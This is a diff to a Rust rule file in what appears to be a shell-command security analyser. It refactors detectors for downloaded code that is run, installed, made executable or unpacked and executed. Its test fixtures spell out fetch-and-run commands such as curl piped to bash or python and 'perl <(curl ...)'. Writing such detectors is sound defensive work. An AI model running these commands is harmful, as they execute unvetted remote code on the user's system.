@@ -1,11 +1,13 @@
 //! Rules on code that came from elsewhere or was hidden: fetched and run, decoded and run.
 
+use std::collections::BTreeSet;
+
 use super::{
     Hit, Rule, Scene, Shelf, When,
     flow::{is_local, shown},
 };
 use crate::{
-    effect::{Effect, EffectKind, Target},
+    effect::{Effect, EffectKind},
     finding::{Category, Confidence},
     risk::Severity,
     text::{Piece, Taint, Text},
@@ -39,6 +41,7 @@ static RULES: &[Rule] = &[
             "curl -s https://example.com/x.py | python3",
             "curl -s https://example.com/p | base64 -d | bash",
             "curl -s https://example.com/x | tee x.sh | sh",
+            "perl <(curl -s https://example.com/x.pl)",
         ],
         quiet: &[
             "curl -fsSL https://example.com/install.sh -o install.sh",
@@ -53,7 +56,7 @@ static RULES: &[Rule] = &[
         id: "execution.remote.installed",
         message: "a package that was just downloaded is installed, and its scripts run with the rights of the installer",
         remedy: "install from a signed repository, or let a person check the package first",
-        when: When::Effect(installed),
+        when: When::Scene(installed),
         fires: &[
             "curl -o x.deb https://example.com/x.deb && sudo dpkg -i x.deb",
             "wget https://example.com/x.rpm && rpm -i x.rpm",
@@ -68,7 +71,7 @@ static RULES: &[Rule] = &[
         message: "a file that was just downloaded is made executable",
         remedy: "check what it is before it is run",
         reversible: true,
-        when: When::Effect(prepared),
+        when: When::Scene(prepared),
         fires: &["wget https://example.com/tool && chmod +x tool"],
         quiet: &["chmod +x scripts/build.sh"],
         ..EXECUTES
@@ -79,7 +82,7 @@ static RULES: &[Rule] = &[
         confidence: Confidence::Medium,
         message: "a program out of an archive that was just downloaded is run",
         remedy: "look at what was unpacked before it is run",
-        when: When::Effect(unpacked),
+        when: When::Scene(unpacked),
         fires: &["wget https://example.com/a.tgz && tar xzf a.tgz && ./a/install.sh"],
         quiet: &["tar xzf a.tgz && ./a/install.sh", "wget https://example.com/a.tgz && ls a"],
         ..EXECUTES
@@ -186,77 +189,105 @@ fn stands_as_command(code: &Text) -> bool {
     !code.has_unknown()
 }
 
-fn installed(effect: &Effect, scene: &Scene<'_>) -> Option<Hit> {
-    let EffectKind::Run(run) = &effect.kind else { return None };
-    let name = run.name.text.known_prefix();
-    // On Windows a program is found in the current directory.
-    let named = name.ends_with(".exe")
-        && downloads(scene)
-            .any(|target| target.text.known_prefix().trim_start_matches("./") == name);
-    if named {
-        return Some(Hit { resource: Some(format!("file:{name}")), ..Hit::default() });
+fn installed(scene: &Scene<'_>, hits: &mut Vec<Hit>) {
+    let downloads = Downloads::of(scene);
+    if downloads.is_empty() {
+        return;
     }
-    let installs = matches!(
-        run.program.as_str(),
-        "dpkg"
-            | "rpm"
-            | "apt"
-            | "apt-get"
-            | "yum"
-            | "dnf"
-            | "zypper"
-            | "apk"
-            | "pacman"
-            | "installer"
-            | "snap"
-            | "flatpak"
-            | "gem"
-            | "msiexec"
-            | "pip"
-            | "pip3"
-            | "npm"
-            | "gdebi"
-            | "insmod"
-            | "modprobe"
-    );
-    if !installs {
-        return None;
+    for effect in &scene.effects.list {
+        let EffectKind::Run(run) = &effect.kind else { continue };
+        let name = run.name.text.known_prefix();
+        // On Windows a program is found in the current directory.
+        let named = name.ends_with(".exe") && downloads.names.contains(name);
+        let installs = INSTALLERS.binary_search(&run.program.as_str()).is_ok()
+            && run.arguments.iter().any(|argument| downloads.has(&argument.text));
+        if named || installs {
+            hits.push(Hit { at: Some(effect.at), ..Hit::default() });
+        }
     }
-    let package = run.arguments.iter().find(|argument| {
-        let written = argument.text.known_prefix().trim_start_matches("./");
-        !written.is_empty()
-            && downloads(scene).any(|target| {
-                target.text == argument.text
-                    || target.text.known_prefix().trim_start_matches("./") == written
-            })
-    })?;
-    Some(Hit { resource: Some(format!("file:{}", package.text.display())), ..Hit::default() })
 }
+
+/// Programs that run what a package brings, sorted.
+const INSTALLERS: &[&str] = &[
+    "apk",
+    "apt",
+    "apt-get",
+    "dnf",
+    "dpkg",
+    "flatpak",
+    "gdebi",
+    "gem",
+    "insmod",
+    "installer",
+    "msiexec",
+    "npm",
+    "pacman",
+    "pip",
+    "pip3",
+    "rpm",
+    "snap",
+    "yum",
+    "zypper",
+];
 
 /// The files that came over the network in this call.
-fn downloads<'s>(scene: &'s Scene<'_>) -> impl Iterator<Item = &'s Target> {
-    scene.effects.list.iter().filter_map(|effect| match &effect.kind {
-        EffectKind::Write { target, content, .. } if content.taint.has(Taint::NETWORK) => {
-            Some(target)
+#[derive(Default)]
+struct Downloads<'s> {
+    /// As written, without `./`.
+    names: BTreeSet<&'s str>,
+    paths: BTreeSet<&'s str>,
+    /// Whether there are some whose names nobody knows: those out of an archive.
+    unpacked: bool,
+}
+
+impl<'s> Downloads<'s> {
+    fn of(scene: &'s Scene<'_>) -> Self {
+        let mut downloads = Self::default();
+        for effect in &scene.effects.list {
+            let EffectKind::Write { target, content, .. } = &effect.kind else { continue };
+            if !content.taint.has(Taint::NETWORK) {
+                continue;
+            }
+            downloads.unpacked |= target.text.has_unknown();
+            if let Some(name) = target.text.as_known() {
+                downloads.names.insert(name.trim_start_matches("./"));
+            }
+            downloads.paths.extend(target.path.as_deref());
         }
-        _ => None,
-    })
+        downloads
+    }
+
+    fn is_empty(&self) -> bool {
+        self.names.is_empty() && self.paths.is_empty() && !self.unpacked
+    }
+
+    fn has(&self, text: &Text) -> bool {
+        text.as_known().is_some_and(|name| self.names.contains(name.trim_start_matches("./")))
+    }
 }
 
-fn unpacked(effect: &Effect, scene: &Scene<'_>) -> Option<Hit> {
-    let EffectKind::Run(run) = &effect.kind else { return None };
-    let name = run.name.text.known_prefix();
-    let own = !name.starts_with('/') && name.contains('/');
-    let unpacks = downloads(scene).any(|target| target.text.has_unknown());
-    (own && unpacks).then(Hit::default)
+fn unpacked(scene: &Scene<'_>, hits: &mut Vec<Hit>) {
+    if !Downloads::of(scene).unpacked {
+        return;
+    }
+    for effect in &scene.effects.list {
+        let EffectKind::Run(run) = &effect.kind else { continue };
+        let name = run.name.text.known_prefix();
+        if !name.starts_with('/') && name.contains('/') {
+            hits.push(Hit { at: Some(effect.at), ..Hit::default() });
+        }
+    }
 }
 
-fn prepared(effect: &Effect, scene: &Scene<'_>) -> Option<Hit> {
-    let EffectKind::Permission { target, .. } = &effect.kind else { return None };
-    let path = target.path.as_ref()?;
-    downloads(scene)
-        .any(|written| written.path.as_ref() == Some(path))
-        .then(|| Hit { resource: Some(format!("file:{path}")), ..Hit::default() })
+fn prepared(scene: &Scene<'_>, hits: &mut Vec<Hit>) {
+    let downloads = Downloads::of(scene);
+    for effect in &scene.effects.list {
+        let EffectKind::Permission { target, .. } = &effect.kind else { continue };
+        if let Some(path) = target.path.as_deref().filter(|path| downloads.paths.contains(path)) {
+            let resource = Some(format!("file:{path}"));
+            hits.push(Hit { at: Some(effect.at), resource, ..Hit::default() });
+        }
+    }
 }
 
 fn decoded(effect: &Effect, _: &Scene<'_>) -> Option<Hit> {
